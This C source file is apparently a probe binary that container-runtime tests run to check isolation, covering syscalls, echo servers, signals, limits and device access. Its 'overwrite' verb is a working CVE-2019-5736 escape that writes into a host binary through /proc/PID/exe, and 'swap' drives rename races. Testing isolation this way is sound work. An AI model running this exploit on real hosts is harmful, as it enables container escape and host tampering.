/* What the tests need inside a container and busybox does not have. Linked statically. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

/* syscall NUMBER [ARGUMENT...]: make the call, print its result and the error's name. */
static int do_syscall(int argc, char **argv) {
    long a[7] = {0};
    for (int i = 0; i < argc && i < 7; i++) a[i] = strtol(argv[i], NULL, 0);
    errno = 0;
    long r = syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
    if (r == 0 && (a[0] == SYS_clone || a[0] == SYS_clone3) && getppid() != 0) _exit(0);
    printf("%ld %s\n", r < 0 ? r : 0L, r < 0 ? strerrorname_np(errno) : "OK");
    return 0;
}

/* echo tcp|udp PORT: answer each line or datagram with "echo:" and itself; datagrams with the sender too. */
static int do_echo(int argc, char **argv) {
    int udp = argc > 0 && !strcmp(argv[0], "udp");
    int s = socket(AF_INET, udp ? SOCK_DGRAM : SOCK_STREAM, 0), one = 1;
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))}, from;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (void *)&at, sizeof at) || (!udp && listen(s, 64))) return perror("bind"), 1;
    puts("listening");
    fflush(stdout);
    for (;;) {
        char in[2048], out[4096];
        socklen_t length = sizeof from;
        if (udp) {
            ssize_t n = recvfrom(s, in, sizeof in - 1, 0, (void *)&from, &length);
            if (n < 0) continue;
            in[n] = 0;
            n = snprintf(out, sizeof out, "echo:%s from %s", in, inet_ntoa(from.sin_addr));
            sendto(s, out, n, 0, (void *)&from, length);
        } else {
            int c = accept(s, (void *)&from, &length);
            if (c < 0) continue;
            ssize_t n = read(c, in, sizeof in - 1);
            in[n > 0 ? n : 0] = 0;
            n = snprintf(out, sizeof out, "echo:%s from %s", in, inet_ntoa(from.sin_addr));
            if (write(c, out, n) < 0) perror("write");
            close(c);
        }
    }
}

/* cat PORT: give each connection back what it sends, as many at a time as come. */
static int do_cat(char **argv) {
    int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[0]))};
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    signal(SIGCHLD, SIG_IGN);
    if (bind(s, (void *)&at, sizeof at) || listen(s, 1024)) return perror("bind"), 1;
    puts("listening");
    fflush(stdout);
    for (;;) {
        static char data[1 << 18];
        ssize_t n;
        int c = accept(s, NULL, NULL);
        if (c >= 0 && fork() == 0) {
            while ((n = read(c, data, sizeof data)) > 0)
                for (ssize_t done = 0, m; done < n; done += m)
                    if ((m = write(c, data + done, n - done)) <= 0) _exit(1);
            _exit(0);
        }
        if (c >= 0) close(c);
    }
}

static void say(int number) {
    printf("signal %d\n", number);
    fflush(stdout);
}

/* signals: print every signal that arrives; end at SIGUSR2 with 42. */
static int do_signals(void) {
    for (int i = 1; i < 32; i++)
        if (i != SIGKILL && i != SIGSTOP && i != SIGUSR2 && i != SIGCHLD) signal(i, say);
    sigset_t wait;
    sigemptyset(&wait);
    sigaddset(&wait, SIGUSR2);
    sigprocmask(SIG_BLOCK, &wait, NULL);
    puts("ready");
    fflush(stdout);
    int got;
    while (sigwait(&wait, &got)) continue;
    return 42;
}

static void size(int number) {
    struct winsize w = {0};
    (void)number;
    ioctl(0, TIOCGWINSZ, &w);
    printf("size %d %d\n", w.ws_row, w.ws_col);
    fflush(stdout);
}

/* winsize: print the terminal's size now and at each change. */
static int do_winsize(void) {
    signal(SIGWINCH, size);
    size(0);
    for (;;) pause();
    return 0;
}

/* lines COUNT [MICROSECONDS]: numbered lines, a pause after each; then stay if MICROSECONDS is given. */
static int do_lines(int argc, char **argv) {
    long count = atol(argv[0]);
    useconds_t gap = argc > 1 ? atoi(argv[1]) : 0;
    char line[64];
    for (long i = 1; count < 0 || i <= count; i++) {
        int n = snprintf(line, sizeof line, "line %ld\n", i);
        if (write(1, line, n) != n) return 1;
        if (gap) usleep(gap);
    }
    return 0;
}

/* descriptors: every open descriptor and what it is. */
static int do_descriptors(void) {
    DIR *d = opendir("/proc/self/fd");
    struct dirent *e;
    if (!d) return perror("opendir"), 1;
    while ((e = readdir(d))) {
        char target[4096];
        ssize_t n = readlinkat(dirfd(d), e->d_name, target, sizeof target - 1);
        if (n < 0 || atoi(e->d_name) == dirfd(d)) continue;
        target[n] = 0;
        printf("%s %s\n", e->d_name, target);
    }
    return 0;
}

/* memory MEGABYTES: touch that much. */
static int do_memory(int argc, char **argv) {
    size_t bytes = (size_t)atol(argv[argc - 1]) << 20;
    char *p = malloc(bytes);
    if (!p) return perror("malloc"), 1;
    for (size_t i = 0; i < bytes; i += 4096) p[i] = 1;
    printf("touched %zu\n", bytes >> 20);
    return 0;
}

/* forks COUNT: start that many sleeping children, say how many there are. */
static int do_forks(char **argv) {
    int want = atoi(argv[0]), made = 0;
    for (; made < want; made++) {
        pid_t p = fork();
        if (p < 0) break;
        if (p == 0) { pause(); _exit(0); }
    }
    printf("forked %d %s\n", made, made < want ? strerrorname_np(errno) : "all");
    fflush(stdout);
    kill(0, SIGKILL);
    return 0;
}

/* open PATH: try to open a device for reading and writing. */
static int do_open(char **argv) {
    int fd = open(argv[0], O_RDWR | O_CLOEXEC);
    printf("%s\n", fd >= 0 ? "OK" : strerrorname_np(errno));
    return 0;
}

/* overwrite SECONDS: lie in wait for a process whose /proc/PID/exe is not from here, and write to its program
   through the magic link as soon as it stops running (CVE-2019-5736). */
static int do_overwrite(char **argv) {
    long left = atol(argv[0]) * 100000;
    pid_t self = getpid();
    puts("waiting");
    fflush(stdout);
    int held[64], count = 0;
    while (left-- > 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            char path[64];
            pid_t pid = atoi(e->d_name);
            if (pid <= 1 || pid == self || count == 64) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd >= 0) held[count++] = fd;
        }
        if (d) closedir(d);
        for (int i = 0; i < count; i++) {
            char link[64], target[512];
            snprintf(link, sizeof link, "/proc/self/fd/%d", held[i]);
            ssize_t n = readlink(link, target, sizeof target - 1);
            target[n > 0 ? n : 0] = 0;
            int fd = strstr(target, "/bin/") == target ? -1 : open(link, O_WRONLY | O_CLOEXEC);
            if (fd >= 0) {
                printf("opened %s for writing\n", target);
                if (write(fd, "#!owned\n", 8) == 8) printf("wrote\n");
                fflush(stdout);
                return 3;
            }
        }
        if (count == 64) while (count) close(held[--count]);
    }
    puts("nothing");
    return 0;
}

/* swap A B: exchange two names for ever, for races. */
static int do_swap(char **argv) {
    puts("swapping");
    fflush(stdout);
    for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */);
    return 0;
}

int main(int argc, char **argv) {
    const char *verb = argc > 1 ? argv[1] : "";
    char **rest = argv + 2;
    int count = argc - 2;
    if (!strcmp(verb, "syscall") && count >= 1) return do_syscall(count, rest);
    if (!strcmp(verb, "echo") && count == 2) return do_echo(count, rest);
    if (!strcmp(verb, "cat") && count == 1) return do_cat(rest);
    if (!strcmp(verb, "signals")) return do_signals();
    if (!strcmp(verb, "winsize")) return do_winsize();
    if (!strcmp(verb, "lines") && count >= 1) return do_lines(count, rest);
    if (!strcmp(verb, "descriptors")) return do_descriptors();
    if (!strcmp(verb, "memory") && count == 1) return do_memory(count, rest);
    if (!strcmp(verb, "forks") && count == 1) return do_forks(rest);
    if (!strcmp(verb, "open") && count == 1) return do_open(rest);
    if (!strcmp(verb, "overwrite") && count == 1) return do_overwrite(rest);
    if (!strcmp(verb, "swap") && count == 2) return do_swap(rest);
    fprintf(stderr, "probe: what?\n");
    return 64;
}
